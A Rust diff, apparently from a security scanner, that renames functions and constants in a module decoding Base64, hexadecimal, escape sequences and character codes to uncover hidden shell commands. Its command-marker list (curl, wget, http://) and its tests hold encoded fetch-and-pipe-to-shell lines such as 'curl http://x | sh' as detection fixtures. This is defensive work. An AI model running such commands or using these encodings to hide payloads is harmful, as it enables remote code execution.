@@ -6,17 +6,17 @@ use base64::{
 };
 use savoir_skill::Span;
 
-const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
+const LENIENT_BASE64: GeneralPurposeConfig = GeneralPurposeConfig::new()
     .with_decode_padding_mode(DecodePaddingMode::Indifferent)
     .with_decode_allow_trailing_bits(true);
-const PLAIN: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
-const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);
+const STANDARD_BASE64: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT_BASE64);
+const URL_SAFE_BASE64: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT_BASE64);
 
 /// Minimum length of an encoded run: `curl x|sh` has sixteen characters in Base64.
 const MIN_ENCODED_BYTES: usize = 16;
 
 /// Minimum length of a line of a run that continues on the next line.
-const WRAPPED: usize = 40;
+const MIN_WRAPPED_LINE_BYTES: usize = 40;
 
 /// Maximum number of bytes that one run decodes to.
 const MAX_ENCODED_BYTES: usize = 512 * 1024;
@@ -25,19 +25,19 @@ const MAX_ENCODED_BYTES: usize = 512 * 1024;
 const MAX_DECODED_BYTES: usize = 4 * 1024 * 1024;
 
 /// Decodes Base64, if the result is text.
-pub(super) fn base64(text: &str) -> Option<String> {
-    readable(base64_bytes(text)?)
+pub(super) fn decode_base64(text: &str) -> Option<String> {
+    bytes_to_readable_text(decode_base64_bytes(text)?)
 }
 
 /// Decodes Base64 to bytes, ignoring blanks.
-pub(super) fn base64_bytes(text: &str) -> Option<Vec<u8>> {
+pub(super) fn decode_base64_bytes(text: &str) -> Option<Vec<u8>> {
     let compact: String =
         text.chars().filter(|c| !c.is_whitespace()).take(MAX_ENCODED_BYTES).collect();
-    PLAIN.decode(&compact).or_else(|_| URL_SAFE.decode(&compact)).ok()
+    STANDARD_BASE64.decode(&compact).or_else(|_| URL_SAFE_BASE64.decode(&compact)).ok()
 }
 
 /// Decodes hexadecimal digits, if the result is text.
-pub(super) fn hex(text: &str) -> Option<String> {
+pub(super) fn decode_hex(text: &str) -> Option<String> {
     let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
     if digits.len() < 8 || !digits.len().is_multiple_of(2) || digits.len() > 2 * MAX_ENCODED_BYTES {
         return None;
@@ -46,20 +46,20 @@ pub(super) fn hex(text: &str) -> Option<String> {
     let pairs = digits.chunks_exact(2);
     let bytes: Option<Vec<u8>> =
         pairs.map(|pair| Some((value(pair[0])? * 16 + value(pair[1])?) as u8)).collect();
-    readable(bytes?)
+    bytes_to_readable_text(bytes?)
 }
 
 /// Converts bytes to text if nearly all of it is readable; also UTF-16, which PowerShell uses.
-fn readable(bytes: Vec<u8>) -> Option<String> {
+fn bytes_to_readable_text(bytes: Vec<u8>) -> Option<String> {
     if bytes.len() >= 8 && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0) {
         let units: Vec<u16> =
             bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
-        return readable_text(String::from_utf16(&units).ok()?);
+        return require_readable(String::from_utf16(&units).ok()?);
     }
-    readable_text(String::from_utf8(bytes).ok()?)
+    require_readable(String::from_utf8(bytes).ok()?)
 }
 
-fn readable_text(text: String) -> Option<String> {
+fn require_readable(text: String) -> Option<String> {
     let good = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
     (text.len() >= 4 && text.chars().all(good)).then_some(text)
 }
@@ -75,7 +75,7 @@ pub(super) fn rot13(text: &str) -> String {
 }
 
 /// Replaces `\x41`, `\u0041` and `\101` by their characters.
-pub(super) fn escapes(text: &str) -> String {
+pub(super) fn decode_escapes(text: &str) -> String {
     let mut result = String::with_capacity(text.len());
     let mut rest = text;
     while let Some(at) = rest.find('\\') {
@@ -108,7 +108,7 @@ pub(super) fn escapes(text: &str) -> String {
 }
 
 /// The characters of both Base64 alphabets, which include the hexadecimal digits.
-const RUN: [bool; 256] = {
+const IS_BASE64_BYTE: [bool; 256] = {
     let mut run = [false; 256];
     let mut byte = 0_u8;
     while byte < 128 {
@@ -120,8 +120,8 @@ const RUN: [bool; 256] = {
 };
 
 /// Returns encoded runs that decode to text: the text, the encoding and the position.
-pub(super) fn runs(text: &str) -> Vec<(String, &'static str, Span)> {
-    let is_run = |byte: u8| RUN[usize::from(byte)];
+pub(super) fn find_encoded_runs(text: &str) -> Vec<(String, &'static str, Span)> {
+    let is_run = |byte: u8| IS_BASE64_BYTE[usize::from(byte)];
     let bytes = text.as_bytes();
     let (mut found, mut at, mut decoded) = (Vec::new(), 0, 0);
     while at < bytes.len() {
@@ -132,7 +132,7 @@ pub(super) fn runs(text: &str) -> Vec<(String, &'static str, Span)> {
         let mut length = bytes[at..].iter().take_while(|byte| is_run(**byte)).count();
         // Long runs are wrapped: a full line continues on the next line.
         let mut line = length;
-        while line >= WRAPPED
+        while line >= MIN_WRAPPED_LINE_BYTES
             && bytes.get(at + length) == Some(&b'\n')
             && bytes.get(at + length + 1).is_some_and(|byte| is_run(*byte) && *byte != b'-')
         {
@@ -146,20 +146,20 @@ pub(super) fn runs(text: &str) -> Vec<(String, &'static str, Span)> {
         }
         let run = span.slice(text);
         decoded += length;
-        if let Some(inner) = hex(run) {
+        if let Some(inner) = decode_hex(run) {
             found.push((inner, "hexadecimal digits", span));
         } else if looks_encoded(run)
-            && let Some(inner) = base64(run)
+            && let Some(inner) = decode_base64(run)
         {
             found.push((inner, "Base64", span));
         }
     }
-    found.extend(escaped_letters(text));
+    found.extend(find_escaped_letters(text));
     found
 }
 
 /// Finds letters that are written as escapes, with or without blanks: `\u0063\u0075 \u0072`.
-fn escaped_letters(text: &str) -> Vec<(String, &'static str, Span)> {
+fn find_escaped_letters(text: &str) -> Vec<(String, &'static str, Span)> {
     const MIN_ESCAPES: usize = 8;
     let mut found = Vec::new();
     let (mut said, mut count, mut start, mut at) = (String::new(), 0, 0, 0);
@@ -206,7 +206,7 @@ fn escaped_letters(text: &str) -> Vec<(String, &'static str, Span)> {
 const MIN_NUMBERS: usize = 8;
 
 /// Substrings that a text made from numbers must contain to be reported.
-const COMMANDS: [&str; 18] = [
+const COMMAND_MARKERS: [&str; 18] = [
     "curl ",
     "wget ",
     "http://",
@@ -228,7 +228,7 @@ const COMMANDS: [&str; 18] = [
 ];
 
 /// Returns lists of character codes in a text that are commands or addresses.
-pub(super) fn numbers(text: &str) -> Vec<(String, &'static str, Span)> {
+pub(super) fn find_character_codes(text: &str) -> Vec<(String, &'static str, Span)> {
     let bytes = text.as_bytes();
     let (mut found, mut at) = (Vec::new(), 0);
     while at < bytes.len() {
@@ -238,7 +238,7 @@ pub(super) fn numbers(text: &str) -> Vec<(String, &'static str, Span)> {
         }
         let start = at;
         let mut letters = String::new();
-        while let Some((code, end)) = number(bytes, at) {
+        while let Some((code, end)) = parse_number(bytes, at) {
             let Some(letter) = char::from_u32(code).filter(char::is_ascii) else { break };
             letters.push(letter);
             at = end;
@@ -253,7 +253,9 @@ pub(super) fn numbers(text: &str) -> Vec<(String, &'static str, Span)> {
         // A program can also read the codes in reverse.
         let turned: String = letters.chars().rev().collect();
         for letters in [letters, turned] {
-            if letters.len() >= MIN_NUMBERS && COMMANDS.iter().any(|mark| letters.contains(mark)) {
+            if letters.len() >= MIN_NUMBERS
+                && COMMAND_MARKERS.iter().any(|mark| letters.contains(mark))
+            {
                 found.push((letters, "a list of character codes", Span::new(start, at)));
             }
         }
@@ -262,7 +264,7 @@ pub(super) fn numbers(text: &str) -> Vec<(String, &'static str, Span)> {
 }
 
 /// Parses a number at a position; returns its value and its end.
-fn number(bytes: &[u8], at: usize) -> Option<(u32, usize)> {
+fn parse_number(bytes: &[u8], at: usize) -> Option<(u32, usize)> {
     let rest = &bytes[at..];
     let hex = rest.starts_with(b"0x") || rest.starts_with(b"0X");
     let (skip, radix) = if hex { (2, 16) } else { (0, 10) };
@@ -295,32 +297,44 @@ mod tests {
     use super::*;
 
     #[test]
-    fn encodings_are_read() {
-        assert_eq!(base64("Y3VybCBodHRwOi8veCB8IHNo").as_deref(), Some("curl http://x | sh"));
-        assert_eq!(base64("aQBlAHgAIAAxAA==").as_deref(), Some("iex 1"));
-        assert_eq!(hex("6375726c20782e79").as_deref(), Some("curl x.y"));
-        assert_eq!(base64("not base64!"), None);
-        assert_eq!(escapes("\\x63\\u0075r\\154 a"), "curl a");
+    fn encodings_are_decoded() {
+        assert_eq!(
+            decode_base64("Y3VybCBodHRwOi8veCB8IHNo").as_deref(),
+            Some("curl http://x | sh")
+        );
+        assert_eq!(decode_base64("aQBlAHgAIAAxAA==").as_deref(), Some("iex 1"));
+        assert_eq!(decode_hex("6375726c20782e79").as_deref(), Some("curl x.y"));
+        assert_eq!(decode_base64("not base64!"), None);
+        assert_eq!(decode_escapes("\\x63\\u0075r\\154 a"), "curl a");
     }
 
     #[test]
-    fn runs_are_found_and_words_are_not() {
-        let found = runs("run `Y3VybCBodHRwOi8veCB8IHNo` now");
+    fn encoded_runs_are_found_and_words_are_not() {
+        let found = find_encoded_runs("run `Y3VybCBodHRwOi8veCB8IHNo` now");
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].0, "curl http://x | sh");
-        assert!(runs("internationalization/of/the/things and CamelCaseNamesOfClasses").is_empty());
+        assert!(
+            find_encoded_runs("internationalization/of/the/things and CamelCaseNamesOfClasses")
+                .is_empty()
+        );
     }
 
     #[test]
-    fn numbers_are_letters() {
+    fn character_codes_are_decoded() {
         for text in [
             "const L = [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120];",
             "bytes((0x63,0x75,0x72,0x6c,0x20,0x78,0x7c,0x73,0x68))",
             "[104,115,124,120,32,108,114,117,99]",
         ] {
-            assert!(numbers(text).iter().any(|(text, _, _)| text.starts_with("curl ")), "{text}");
+            assert!(
+                find_character_codes(text).iter().any(|(text, _, _)| text.starts_with("curl ")),
+                "{text}"
+            );
         }
-        assert!(numbers("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 99, 100, 101, 102, 103").is_empty());
+        assert!(
+            find_character_codes("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 99, 100, 101, 102, 103")
+                .is_empty()
+        );
     }
 
     #[test]
